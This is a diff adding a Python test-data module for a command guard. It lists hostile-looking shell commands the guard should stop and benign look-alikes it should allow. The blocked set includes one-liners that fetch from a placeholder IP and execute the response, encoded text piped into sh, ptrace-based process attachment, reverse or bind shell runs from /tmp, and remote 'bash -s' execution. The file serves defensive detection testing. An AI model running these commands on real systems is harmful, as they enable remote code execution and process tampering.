@@ -1,0 +1,89 @@
+"""Classes of "something runs code an attacker brought" that a launcher-by-launcher sample got past the
+guards (helper launch16).
+
+First sight was measured on commands written per launcher family (interpreters, shells and ``source``,
+loaders, runners that take a command, remote shells fed a local script, payloads decoded into a shell)
+with files in ``/tmp``, ``/dev/shm``, ``/var/tmp``, hidden, downloaded or decoded, beside ShellPop's
+Linux stagers (0x00-0x00/ShellPop, src/stagers.py); a held-out part (other spellings, honeypot
+captures from stamparm/hontel, H4ss/vulture_research) was measured once at the end. The corpora are
+kept outside the repository (/work/realworld/launch16 on the machine that measured them). What they
+missed is fixed by class; the commands here are variants written for the tests, not the ones
+measured:
+
+- the file a launcher runs is found whatever the launcher: ``source``/``.``, ``java -jar``/``-cp``,
+  ``deno run``, ``bun run``, ``dotnet FILE``, ``run-parts DIR``, beside shells and interpreters, and
+  judged as a program run from where payloads hide;
+- a file named as an attacker's tool (a reverse or bind shell, a backdoor, an implant, a dropper)
+  run by a path or handed to a launcher;
+- encoded text piped into a shell or an interpreter (``base64 -d``, ``rev``, ``tr``, ``printf`` of
+  escapes) is asked even when what it decodes to reads as harmless: nobody encodes their own command;
+- a one-liner that fetches from the network and runs a value as a command (``os.system(get(URL).text)``);
+- a one-liner that attaches to another process (``ptrace`` through ctypes, ``process_vm_writev``);
+- ``ssh HOST 'bash -s' < FILE``: a local file run as code on another machine;
+- ``split --filter=sh``, ``tar --to-command=bash``: data cut into pieces and each piece run as code.
+"""
+
+from __future__ import annotations
+
+HELD = {
+    "launcher's file in a hiding place": [
+        "java -classpath /dev/shm/.c/a.jar Loader",
+        "deno run --allow-net /var/tmp/.d/m.ts",
+        "bun run /dev/shm/.q.ts",
+        "dotnet exec /tmp/.n/svc.dll",
+        "source /dev/shm/profile",
+        "run-parts /var/tmp/.hourly",
+        "nice run-parts --report /dev/shm/j",
+    ],
+    "file named as an attacker's tool": [
+        "java -jar ./out/reverse-shell-1.0.jar",
+        "python3 /tmp/bind_shell.py 4444",
+        "./implant_x64 --host 192.0.2.4",
+        "perl /tmp/web-backdoor.pl",
+    ],
+    "encoded text piped into a shell": [
+        "echo ZGF0ZQ== | base64 --decode | sh",
+        "echo 'etad' | rev | bash",
+        "printf '\\144\\141\\164\\145' | sh",
+        "echo qngr | tr 'a-z' 'n-za-m' | sh",
+        "echo cHJpbnQoMSkK | base64 -d | python3",
+    ],
+    "one-liner that runs what it fetches": [
+        "python3 -c \"import os,urllib.request as u;os.system(u.urlopen('http://192.0.2.8/c').read().decode())\"",
+        'ruby -e \'require "open-uri";c=URI.open("http://192.0.2.8/c").read;system c\'',
+    ],
+    "one-liner that attaches to another process": [
+        'python3 -c \'import ctypes;l=ctypes.CDLL("libc.so.6");l.ptrace(0x4206,int(open("p").read()),0,0)\'',
+        "python -c 'import ctypes; ctypes.cdll.LoadLibrary(None).process_vm_writev(9, 0, 1, 0, 1, 0)'",
+    ],
+    "local file run as code on another machine": [
+        "ssh -p 2222 ops@192.0.2.10 'bash -s' < ./rollout.sh",
+        "ssh -i key ops@web1 sh -s < ops/patch.sh",
+        "ssh web1 'python3 -' < tool.py",
+    ],
+    "data run as code by a cutter": [
+        "split -l 5 --filter=bash jobs.txt",
+        "tar -xf payload.tar --to-command='sh'",
+    ],
+}
+
+ALLOWED = [
+    "java -cp build/classes Main",
+    "deno run --allow-read scripts/check.ts",
+    "bun run dev",
+    "dotnet test",
+    "dotnet run --project src/App",
+    "source ./scripts/env.sh",
+    "run-parts --list /etc/cron.daily",
+    "python3 scripts/shell_history_import.py",
+    "echo aGVsbG8K | base64 -d",
+    "base64 -d fixture.b64 > fixture.bin",
+    "echo 'ls -la' | sh",
+    "printf '%s\\n' 'make test' | sh",
+    "python3 -c \"import urllib.request as u;print(u.urlopen('https://pypi.org/simple/').status)\"",
+    "ssh web1 'systemctl status nginx'",
+    "ssh web1 cat /var/log/app.log > app.log",
+    "split -l 1000 --filter='gzip > $FILE.gz' big.csv part-",
+    "tar -xf logs.tar --to-command='grep -c ERROR'",
+    "curl -fsSL https://example.com/tool.tar.gz -o tool.tar.gz",
+]
